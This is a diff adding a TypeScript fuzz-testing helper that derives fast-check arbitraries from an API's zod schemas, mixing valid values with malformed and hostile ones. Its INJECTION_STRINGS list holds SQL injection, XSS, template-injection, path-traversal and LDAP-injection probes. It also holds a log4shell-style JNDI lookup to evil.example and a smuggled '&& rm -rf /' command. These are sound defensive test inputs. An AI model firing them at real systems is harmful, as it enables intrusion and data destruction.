@@ -1,0 +1,145 @@
+import fc from 'fast-check';
+import type { z } from 'zod';
+
+/**
+ * fast-check arbitraries derived from the API's zod schemas: values that mostly fit the schema (so
+ * requests get past validation into the handlers and the database) and, mixed in, values that break it
+ * in the ways clients do (wrong types, extra fields, out-of-range numbers, hostile strings).
+ */
+export const INJECTION_STRINGS = [
+  "'; DROP TABLE videos; --",
+  "' OR '1'='1",
+  '" OR ""="',
+  '1; SELECT pg_sleep(5)',
+  '$$; DROP TABLE users; $$',
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  'javascript:alert(1)',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, on purpose
+  '{{7*7}}${7*7}<%= 7*7 %>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style probe, on purpose
+  '${jndi:ldap://evil.example/a}',
+  '../../../../etc/passwd',
+  '%00%27%22',
+  'a\u0000b',
+  '\\u0000',
+  "Robert'); DROP TABLE students;--",
+  '\u202eevil\u202c',
+  '🎬 vidéo ✓ 日本語',
+  '\ud83d',
+  '&& rm -rf / ;',
+  '*)(uid=*))(|(uid=*',
+  "to_tsquery('a & b')",
+  ':* & ! | <->',
+];
+
+const hostileString = fc.oneof(
+  fc.constantFrom(...INJECTION_STRINGS),
+  fc.string({ unit: 'binary', maxLength: 40 }),
+  fc.string({ maxLength: 300 }),
+);
+
+function def(schema: z.ZodType): { type: string } & Record<string, unknown> {
+  return (schema as unknown as { _zod: { def: { type: string } & Record<string, unknown> } })._zod.def;
+}
+
+/** A value that usually satisfies `schema` (strings sometimes hostile but in range). */
+export function validArbitrary(schema: z.ZodType): fc.Arbitrary<unknown> {
+  const d = def(schema);
+  switch (d.type) {
+    case 'optional':
+    case 'default':
+      return fc.option(validArbitrary(d.innerType as z.ZodType), { nil: undefined });
+    case 'nullable':
+      return fc.option(validArbitrary(d.innerType as z.ZodType), { nil: null });
+    case 'pipe':
+      return validArbitrary(d.in as z.ZodType);
+    case 'string': {
+      const s = schema as unknown as { minLength: number | null; maxLength: number | null };
+      const min = s.minLength ?? 0;
+      const max = Math.min(s.maxLength ?? 300, 300);
+      return fc
+        .oneof(
+          { weight: 3, arbitrary: fc.string({ minLength: Math.max(min, 1), maxLength: Math.max(max, 1) }) },
+          { weight: 2, arbitrary: fc.constantFrom(...INJECTION_STRINGS) },
+        )
+        .map((value) => (value.length > max ? value.slice(0, max) : value.padEnd(min, 'x')));
+    }
+    case 'number': {
+      const n = schema as unknown as { minValue: number | null; maxValue: number | null; isInt: boolean };
+      const min = Math.max(n.minValue ?? -1e6, -1e12);
+      const max = Math.min(n.maxValue ?? 1e12, 1e12);
+      return n.isInt ? fc.integer({ min, max }) : fc.double({ min, max, noNaN: true });
+    }
+    case 'boolean':
+      return fc.boolean();
+    case 'enum':
+      return fc.constantFrom(...(schema as unknown as { options: unknown[] }).options);
+    case 'literal':
+      return fc.constantFrom(...(d.values as unknown[]));
+    case 'array': {
+      const checks =
+        (d.checks as Array<{ _zod: { def: { check: string; minimum?: number; maximum?: number } } }>) ?? [];
+      const minLength = checks.find((c) => c._zod.def.check === 'min_length')?._zod.def.minimum ?? 0;
+      const maxLength = Math.min(
+        checks.find((c) => c._zod.def.check === 'max_length')?._zod.def.maximum ?? 5,
+        5,
+      );
+      return fc.array(validArbitrary(d.element as z.ZodType), {
+        minLength,
+        maxLength: Math.max(minLength, maxLength),
+      });
+    }
+    case 'object': {
+      const shape = (schema as unknown as { shape: Record<string, z.ZodType> }).shape;
+      const entries = Object.entries(shape);
+      const required = entries
+        .filter(([, s]) => !['optional', 'default'].includes(def(s).type))
+        .map(([k]) => k);
+      return fc.record(Object.fromEntries(entries.map(([k, s]) => [k, validArbitrary(s)])), {
+        requiredKeys: required,
+      });
+    }
+    default:
+      return fc.jsonValue({ maxDepth: 2 });
+  }
+}
+
+/** Anything at all: valid, nearly valid (one field broken, one extra field), or arbitrary JSON. */
+export function fuzzArbitrary(schema: z.ZodType): fc.Arbitrary<unknown> {
+  const valid = validArbitrary(schema);
+  return fc.oneof(
+    { weight: 4, arbitrary: valid },
+    {
+      weight: 2,
+      arbitrary: fc
+        .tuple(valid, fc.string({ minLength: 1, maxLength: 12 }), fc.jsonValue({ maxDepth: 3 }))
+        .map(([value, key, junk]) =>
+          value && typeof value === 'object' && !Array.isArray(value) ? { ...value, [key]: junk } : value,
+        ),
+    },
+    {
+      weight: 1,
+      arbitrary: fc
+        .tuple(valid, fc.oneof(hostileString, fc.integer(), fc.constant(null), fc.jsonValue({ maxDepth: 2 })))
+        .map(([value, replacement]) => {
+          if (!value || typeof value !== 'object' || Array.isArray(value)) return replacement;
+          const keys = Object.keys(value);
+          if (keys.length === 0) return value;
+          return { ...value, [keys[replacement === null ? 0 : keys.length - 1]!]: replacement };
+        }),
+    },
+    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
+  );
+}
+
+/** Query strings and path segments are strings on the wire. */
+export function asWireStrings(value: unknown): Record<string, string> {
+  if (!value || typeof value !== 'object' || Array.isArray(value)) return {};
+  const out: Record<string, string> = {};
+  for (const [k, v] of Object.entries(value)) {
+    if (v === undefined) continue;
+    out[k] = typeof v === 'string' ? v : JSON.stringify(v);
+  }
+  return out;
+}
